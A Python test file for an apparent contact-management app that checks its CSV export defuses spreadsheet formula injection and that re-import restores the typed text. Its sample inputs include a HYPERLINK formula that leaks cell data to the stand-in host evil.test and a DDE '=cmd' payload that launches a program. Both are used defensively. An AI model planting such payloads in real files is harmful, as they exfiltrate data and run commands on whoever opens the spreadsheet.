"""CSV export cannot run formulas (OWASP CSV injection), and our own import restores the typed text."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from sector_desktop.models import Contact, Organization
from sector_desktop.services.exporting import export_records
from sector_desktop.services.importing import apply_import, preview_import
from sector_desktop.services.spreadsheets.formula_guard import guard, unguard
from sector_desktop.store import Database, open_database

# Text a spreadsheet would run, as typed into names, titles and notes.
FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-- see the notes",
    "'=already quoted",
    "'apostrophe first",
    "''two apostrophes",
]
# Left exactly as they are: real numbers, and text with a formula character only in the middle.
UNCHANGED = ["-2", "+1.5", "42", "3.5e3", "617-555-0100", "Acme = best", "a+b", "x@y.test", "", "plain"]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_gets_one_apostrophe_and_loses_it_again(text: str) -> None:
    assert guard(text) == "'" + text
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", UNCHANGED)
def test_numbers_and_ordinary_text_are_written_as_they_are(text: str) -> None:
    assert guard(text) == text and unguard(text) == text


def _fill(db: Database) -> None:
    with db.session() as s:
        for i, text in enumerate(FORMULA_LIKE):
            org = Organization(name=f"{text} #{i}", notes=text, phone="+1 617 555 0100", dba=text)
            s.add(org)
            s.add(Contact(organization=org, name=f"{text} contact", title=text, notes=text, phone="-5"))


def _typed(db: Database) -> list[tuple]:
    with db.read_session() as s:
        orgs = s.execute(select(Organization.name, Organization.dba, Organization.notes, Organization.phone))
        contacts = s.execute(select(Contact.name, Contact.title, Contact.notes, Contact.phone))
        return sorted(map(tuple, orgs)) + sorted(map(tuple, contacts))


def test_csv_export_then_import_gives_back_the_typed_text(
    db: Database, tmp_path: Path, migrated_template: Path
) -> None:
    _fill(db)
    export_records(db, "organizations", tmp_path / "organizations.csv")
    export_records(db, "contacts", tmp_path / "contacts.csv")
    with (tmp_path / "organizations.csv").open(encoding="utf-8-sig", newline="") as fh:
        written = {row["notes"] for row in csv.DictReader(fh)}
    assert written == {"'" + text for text in FORMULA_LIKE}  # every one neutralised in the file
    shutil.copy(migrated_template, tmp_path / "empty.db")
    empty = open_database(tmp_path / "empty.db")
    try:
        for kind in ("organizations", "contacts"):
            preview = preview_import(empty, kind, tmp_path / f"{kind}.csv")
            assert preview.ok, preview.errors
            apply_import(empty, preview)
        assert _typed(empty) == _typed(db)
        export_records(empty, "organizations", tmp_path / "again.csv")
        assert (tmp_path / "again.csv").read_bytes() == (tmp_path / "organizations.csv").read_bytes()
    finally:
        empty.close()


def test_libreoffice_opening_the_csv_computes_no_formula_from_user_text(db: Database, tmp_path: Path) -> None:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    _fill(db)
    export_records(db, "organizations", tmp_path / "orgs.csv")
    run = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "xlsx",
         "--outdir", str(tmp_path), str(tmp_path / "orgs.csv")],
        capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    if not (tmp_path / "orgs.xlsx").exists() and "could not be loaded" in run.stderr + run.stdout:
        # LibreOffice without Calc (only Writer installed) exits 0 and opens no spreadsheet at all.
        pytest.skip("LibreOffice has no Calc here (apt-get install libreoffice-calc-nogui)")
    assert (tmp_path / "orgs.xlsx").exists(), f"LibreOffice wrote no spreadsheet: {run.stdout}{run.stderr}"
    sheet = openpyxl.load_workbook(tmp_path / "orgs.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no formula at all
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    notes = {str(row[header.index("notes")]) for row in sheet.iter_rows(min_row=2, values_only=True)}
    # Shown as the text, apostrophe and all (a cell's lone CR becomes a line break, as in any cell).
    assert notes == {"'" + text.replace("\r", "\n") for text in FORMULA_LIKE}
